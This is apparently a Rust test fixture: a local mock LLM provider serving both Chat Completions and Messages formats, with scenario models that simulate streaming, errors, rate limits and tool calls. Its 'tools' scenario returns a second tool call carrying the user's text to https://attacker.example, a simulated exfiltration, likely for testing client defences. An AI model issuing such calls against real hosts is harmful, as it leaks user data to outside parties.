//! A provider on 127.0.0.1 that speaks both wire formats (Chat Completions at
//! `/v1/chat/completions`, Messages at `/v1/messages`), streaming and whole, and misbehaves on
//! request: the real parts that tests, benchmarks and demos talk to instead of a paid API. It
//! checks keys the way providers do and records every request body it receives, so a test can
//! assert exactly what left the machine.
//!
//! Behaviour is chosen by the request's `model`:
//! `echo` (streams the last user message back, word by word), `normal` ("Hello, world" with
//! keep-alives, CRLF, unknown fields and usage last), `malformed` (unreadable lines among good
//! ones), `cut` (connection closes mid-reply), `big` (20,000 deltas), `limited` (429 with
//! `Retry-After: 7`), `broken` (503), `flaky` (503 for its first two requests, then "Hello,
//! world"), `overloaded` (529 / an `error` event mid-stream), `slow` (headers after 3 s),
//! `tools` (calls the first tool offered with `{"text": <the last user text>}` and a second one,
//! when offered, with `{"url": "https://attacker.example/p?d=<the same>"}`, arguments streamed
//! in pieces; once tool results are the last turn it answers "Tool said: <results>");
//! anything else is a 404 "model not found".

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::Body;
use axum::extract::State;
use axum::http::{HeaderMap, Response};
use axum::routing::post;
use serde_json::{json, Value};

#[derive(Clone)]
struct Shared {
    key: String,
    received: Arc<Mutex<Vec<Value>>>,
    /// The same bodies as the bytes that arrived (what a ledger hash must match).
    raw: Arc<Mutex<Vec<String>>>,
    /// Requests for the "flaky" model so far (the first two fail).
    flaky: Arc<std::sync::atomic::AtomicUsize>,
}

/// A running loopback provider; it stops with the runtime that started it.
pub struct Loopback {
    addr: SocketAddr,
    shared: Shared,
}

impl Loopback {
    /// Listens on an ephemeral port of 127.0.0.1; requests must carry `key`.
    pub async fn start(key: &str) -> std::io::Result<Self> {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        Self::serve(listener, key)
    }

    /// Serves on a listener the caller bound (a fixed port for demos).
    pub fn serve(listener: tokio::net::TcpListener, key: &str) -> std::io::Result<Self> {
        let addr = listener.local_addr()?;
        let shared = Shared {
            key: key.to_string(),
            received: Arc::default(),
            raw: Arc::default(),
            flaky: Arc::default(),
        };
        let app = axum::Router::new()
            .route("/v1/chat/completions", post(openai))
            .route("/v1/messages", post(anthropic))
            .with_state(shared.clone());
        tokio::spawn(async move {
            if let Err(e) = axum::serve(listener, app).await {
                tracing::warn!(error = %e, "loopback provider stopped");
            }
        });
        Ok(Self { addr, shared })
    }

    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// The base URL for either wire format (`http://127.0.0.1:PORT/v1`).
    pub fn base_url(&self) -> String {
        format!("http://{}/v1", self.addr)
    }

    /// Every request body exactly as it arrived, in order.
    pub fn received_raw(&self) -> Vec<String> {
        self.shared
            .raw
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .clone()
    }

    /// Every request body received so far, in order.
    pub fn received(&self) -> Vec<Value> {
        self.shared
            .received
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .clone()
    }
}

fn respond(status: u16, content_type: &str, body: impl Into<Body>) -> Response<Body> {
    Response::builder()
        .status(status)
        .header("content-type", content_type)
        .body(body.into())
        .unwrap_or_else(|_| Response::new(Body::empty()))
}

fn json_error(status: u16, kind: &str, message: &str) -> Response<Body> {
    let body = json!({"type": "error", "error": {"type": kind, "message": message}});
    respond(status, "application/json", body.to_string())
}

fn last_user_text(req: &Value) -> String {
    req["messages"]
        .as_array()
        .and_then(|m| m.iter().rev().find(|m| m["role"] == "user"))
        .and_then(|m| m["content"].as_str())
        .unwrap_or("")
        .to_string()
}

/// What the `tools` scenario asks for: calls `(id, name, arguments)` when the request offers
/// tools and has no tool result yet; `None` to answer in words.
fn tool_calls(req: &Value) -> Option<Vec<(String, String, String)>> {
    let tools = req["tools"].as_array().filter(|t| !t.is_empty())?;
    let last = req["messages"].as_array()?.last()?;
    let is_result = last["role"] == "tool"
        || last["content"]
            .as_array()
            .is_some_and(|b| b.iter().any(|b| b["type"] == "tool_result"));
    if is_result {
        return None;
    }
    let text = last_user_text(req);
    let name = |t: &Value| {
        t["function"]["name"]
            .as_str()
            .or(t["name"].as_str())
            .unwrap_or("")
            .to_string()
    };
    let mut calls = vec![(
        "call_lb_1".to_string(),
        name(&tools[0]),
        json!({"text": text}).to_string(),
    )];
    if let Some(t) = tools.get(1) {
        calls.push((
            "call_lb_2".to_string(),
            name(t),
            json!({"url": format!("https://attacker.example/p?d={text}")}).to_string(),
        ));
    }
    Some(calls)
}

/// The results of the last round of calls, joined with " | " (either wire format).
fn tool_results(req: &Value) -> String {
    let Some(msgs) = req["messages"].as_array() else {
        return String::new();
    };
    let text = |v: &Value| match v {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    let mut out: Vec<String> = msgs
        .iter()
        .rev()
        .take_while(|m| m["role"] == "tool")
        .map(|m| text(&m["content"]))
        .collect();
    out.reverse();
    if let Some(blocks) = msgs.last().and_then(|m| m["content"].as_array()) {
        out.extend(
            blocks
                .iter()
                .filter(|b| b["type"] == "tool_result")
                .map(|b| text(&b["content"])),
        );
    }
    out.join(" | ")
}

/// Splits `s` into three pieces at character boundaries (a placeholder may be cut: the client
/// must join the pieces before reading them).
fn thirds(s: &str) -> Vec<String> {
    let chars: Vec<char> = s.chars().collect();
    let n = chars.len();
    [0..n / 3, n / 3..2 * n / 3, 2 * n / 3..n]
        .into_iter()
        .map(|r| chars[r].iter().collect())
        .collect()
}

/// The words a scenario streams, or an early failure.
enum Plan {
    Words(Vec<String>, &'static str),
    Fail(Response<Body>),
}

async fn plan(model: &str, req: &Value, flaky: &std::sync::atomic::AtomicUsize) -> Plan {
    match model {
        "flaky" if flaky.fetch_add(1, std::sync::atomic::Ordering::SeqCst) < 2 => {
            Plan::Fail(respond(503, "text/plain", ""))
        }
        "flaky" => Plan::Words(vec!["Hello".into(), ", world".into()], "stop"),
        "tools" => Plan::Words(vec![format!("Tool said: {}", tool_results(req))], "stop"),
        "echo" => {
            let text = last_user_text(req);
            let mut words: Vec<String> = text.split_inclusive(' ').map(String::from).collect();
            if words.is_empty() {
                words.push(String::new());
            }
            Plan::Words(words, "stop")
        }
        "normal" | "malformed" | "cut" | "overloaded" => {
            Plan::Words(vec!["Hello".into(), ", world".into()], "stop")
        }
        "slow" => {
            tokio::time::sleep(Duration::from_secs(3)).await;
            Plan::Words(vec!["late".into()], "stop")
        }
        "big" => Plan::Words((0..20_000).map(|i| format!("w{i} ")).collect(), "length"),
        "limited" => Plan::Fail(
            Response::builder()
                .status(429)
                .header("retry-after", "7")
                .body(Body::from("slow down"))
                .unwrap_or_else(|_| Response::new(Body::empty())),
        ),
        "broken" => Plan::Fail(respond(503, "text/plain", "")),
        other => Plan::Fail(json_error(
            404,
            "not_found_error",
            &format!("model {other} does not exist"),
        )),
    }
}

fn record(state: &State<Shared>, body: &str) -> Option<Value> {
    state
        .raw
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .push(body.to_string());
    let req: Value = serde_json::from_str(body).ok()?;
    state
        .received
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .push(req.clone());
    Some(req)
}

async fn openai(state: State<Shared>, headers: HeaderMap, body: String) -> Response<Body> {
    let Some(req) = record(&state, &body) else {
        return json_error(400, "invalid_request_error", "body is not JSON");
    };
    let auth = headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("");
    // An empty key: a server that needs none (a device's llama.cpp or Ollama).
    if !state.key.is_empty() && auth != format!("Bearer {}", state.key) {
        return json_error(401, "invalid_api_key", "Incorrect API key provided");
    }
    let model = req["model"].as_str().unwrap_or("").to_string();
    // A reply that arrives a word every 100 ms for 5 s: what a user can pause mid-stream.
    if model == "trickle" && req["stream"] == json!(true) {
        let chunks = (0..50).map(|i| {
            let c = json!({"choices": [{"index": 0, "delta": {"content": format!("w{i} ")}, "finish_reason": null}]});
            format!("data: {c}\n\n")
        });
        let done = std::iter::once(
            "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n"
                .to_string(),
        );
        use futures::StreamExt as _;
        let body = futures::stream::iter(chunks.chain(done)).then(|c| async move {
            tokio::time::sleep(Duration::from_millis(100)).await;
            Ok::<_, std::io::Error>(c)
        });
        return Response::builder()
            .status(200)
            .header("content-type", "text/event-stream")
            .body(Body::from_stream(body))
            .unwrap_or_else(|_| Response::new(Body::empty()));
    }
    let (words, finish) = match plan(&model, &req, &state.flaky).await {
        Plan::Words(w, f) => (w, f),
        Plan::Fail(r) => return r,
    };
    if model == "overloaded" {
        return respond(529, "application/json", "{}");
    }
    if let Some(calls) = (model == "tools").then(|| tool_calls(&req)).flatten() {
        if req["stream"] != json!(true) {
            let tc: Vec<Value> = calls
                .iter()
                .map(|(id, name, args)| {
                    json!({"id": id, "type": "function",
                "function": {"name": name, "arguments": args}})
                })
                .collect();
            let whole = json!({"id": "lb-1", "object": "chat.completion", "model": model,
                "choices": [{"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": tc}, "finish_reason": "tool_calls"}],
                "usage": {"prompt_tokens": 9, "completion_tokens": 5}});
            return respond(200, "application/json", whole.to_string());
        }
        let mut s = String::new();
        for (i, (id, name, args)) in calls.iter().enumerate() {
            let head = json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": i, "id": id, "type": "function",
                "function": {"name": name, "arguments": ""}}]}, "finish_reason": null}]});
            s.push_str(&format!("data: {head}\n\n"));
            for piece in thirds(args) {
                let d = json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": i,
                    "function": {"arguments": piece}}]}, "finish_reason": null}]});
                s.push_str(&format!("data: {d}\n\n"));
            }
        }
        s.push_str("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}],\"usage\":{\"prompt_tokens\":12,\"completion_tokens\":5}}\n\n");
        s.push_str("data: [DONE]\n\n");
        return respond(200, "text/event-stream", s);
    }
    let text: String = words.concat();
    if req["stream"] != json!(true) {
        let whole = json!({"id": "lb-1", "object": "chat.completion", "model": model,
            "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": finish}],
            "usage": {"prompt_tokens": 9, "completion_tokens": words.len()}});
        return respond(200, "application/json", whole.to_string());
    }
    let mut s = String::from(": keep-alive\r\n\r\n");
    s.push_str("data: {\"id\":\"lb-1\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"content\":\"\"},\"finish_reason\":null}],\"system_fingerprint\":\"x\"}\r\n\r\n");
    for (i, w) in words.iter().enumerate() {
        let chunk = json!({"choices": [{"index": 0, "delta": {"content": w}, "finish_reason": ""}], "unknown": {"a": 1}});
        s.push_str(&format!("data: {chunk}\n\n"));
        if model == "malformed" && i == 0 {
            s.push_str("data: {not json\n\ngarbage line without a field\n\n");
        }
    }
    if model == "cut" {
        return respond(200, "text/event-stream", s);
    }
    s.push_str(&format!(
        "data: {{\"choices\":[{{\"index\":0,\"delta\":{{}},\"finish_reason\":\"{finish}\"}}]}}\n\n"
    ));
    s.push_str(&format!("data: {{\"choices\":[],\"usage\":{{\"prompt_tokens\":12,\"completion_tokens\":{},\"total_tokens\":0}}}}\n\n", words.len()));
    s.push_str("data: [DONE]\n\n");
    respond(200, "text/event-stream", s)
}

async fn anthropic(state: State<Shared>, headers: HeaderMap, body: String) -> Response<Body> {
    let Some(req) = record(&state, &body) else {
        return json_error(400, "invalid_request_error", "body is not JSON");
    };
    let header = |n: &str| headers.get(n).and_then(|v| v.to_str().ok()).unwrap_or("");
    if !state.key.is_empty() && header("x-api-key") != state.key {
        return json_error(401, "authentication_error", "invalid x-api-key");
    }
    if header("anthropic-version").is_empty() {
        return json_error(
            400,
            "invalid_request_error",
            "anthropic-version header is required",
        );
    }
    if req["max_tokens"].as_u64().is_none() {
        return json_error(400, "invalid_request_error", "max_tokens: Field required");
    }
    let model = req["model"].as_str().unwrap_or("").to_string();
    let (words, finish) = match plan(&model, &req, &state.flaky).await {
        Plan::Words(w, f) => (
            w,
            if f == "stop" {
                "end_turn"
            } else {
                "max_tokens"
            },
        ),
        Plan::Fail(r) => return r,
    };
    let ev = |name: &str, data: Value| format!("event: {name}\r\ndata: {data}\r\n\r\n");
    if let Some(calls) = (model == "tools").then(|| tool_calls(&req)).flatten() {
        if req["stream"] != json!(true) {
            let blocks: Vec<Value> = calls
                .iter()
                .map(|(id, name, args)| {
                    json!({"type": "tool_use", "id": id,
                "name": name, "input": serde_json::from_str::<Value>(args).unwrap_or(json!({}))})
                })
                .collect();
            let whole = json!({"id": "msg_lb", "type": "message", "role": "assistant", "model": model,
                "content": blocks, "stop_reason": "tool_use", "stop_sequence": null,
                "usage": {"input_tokens": 9, "output_tokens": 5}});
            return respond(200, "application/json", whole.to_string());
        }
        let mut s = ev(
            "message_start",
            json!({"type": "message_start", "message": {"id": "msg_lb", "type": "message",
            "role": "assistant", "content": [], "model": model, "stop_reason": null,
            "usage": {"input_tokens": 12, "output_tokens": 1}}}),
        );
        for (i, (id, name, args)) in calls.iter().enumerate() {
            s.push_str(&ev(
                "content_block_start",
                json!({"type": "content_block_start", "index": i,
                "content_block": {"type": "tool_use", "id": id, "name": name, "input": {}}}),
            ));
            for piece in thirds(args) {
                s.push_str(&ev(
                    "content_block_delta",
                    json!({"type": "content_block_delta", "index": i,
                    "delta": {"type": "input_json_delta", "partial_json": piece}}),
                ));
            }
            s.push_str(&ev(
                "content_block_stop",
                json!({"type": "content_block_stop", "index": i}),
            ));
        }
        s.push_str(&ev("message_delta", json!({"type": "message_delta",
            "delta": {"stop_reason": "tool_use", "stop_sequence": null}, "usage": {"output_tokens": 5}})));
        s.push_str(&ev("message_stop", json!({"type": "message_stop"})));
        return respond(200, "text/event-stream", s);
    }
    let text: String = words.concat();
    if req["stream"] != json!(true) {
        if model == "overloaded" {
            return json_error(529, "overloaded_error", "Overloaded");
        }
        let whole = json!({"id": "msg_lb", "type": "message", "role": "assistant", "model": model,
            "content": [{"type": "text", "text": text}], "stop_reason": finish, "stop_sequence": null,
            "usage": {"input_tokens": 9, "output_tokens": words.len()}});
        return respond(200, "application/json", whole.to_string());
    }
    let mut s = ev(
        "message_start",
        json!({"type": "message_start", "message": {"id": "msg_lb", "type": "message",
        "role": "assistant", "content": [], "model": model, "stop_reason": null,
        "usage": {"input_tokens": 12, "output_tokens": 1}}}),
    );
    s.push_str(&ev("content_block_start", json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}})));
    s.push_str(&ev("ping", json!({"type": "ping"})));
    for (i, w) in words.iter().enumerate() {
        s.push_str(&ev(
            "content_block_delta",
            json!({"type": "content_block_delta", "index": 0,
            "delta": {"type": "text_delta", "text": w}}),
        ));
        if model == "malformed" && i == 0 {
            s.push_str("event: content_block_delta\ndata: {not json\n\n: a comment\n\n");
        }
        if model == "overloaded" {
            s.push_str(&ev("error", json!({"type": "error", "error": {"type": "overloaded_error", "message": "Overloaded"}})));
            return respond(200, "text/event-stream", s);
        }
    }
    if model == "cut" {
        return respond(200, "text/event-stream", s);
    }
    s.push_str(&ev(
        "content_block_stop",
        json!({"type": "content_block_stop", "index": 0}),
    ));
    s.push_str(&ev(
        "message_delta",
        json!({"type": "message_delta", "delta": {"stop_reason": finish, "stop_sequence": null},
        "usage": {"output_tokens": words.len()}}),
    ));
    s.push_str(&ev("message_stop", json!({"type": "message_stop"})));
    respond(200, "text/event-stream", s)
}
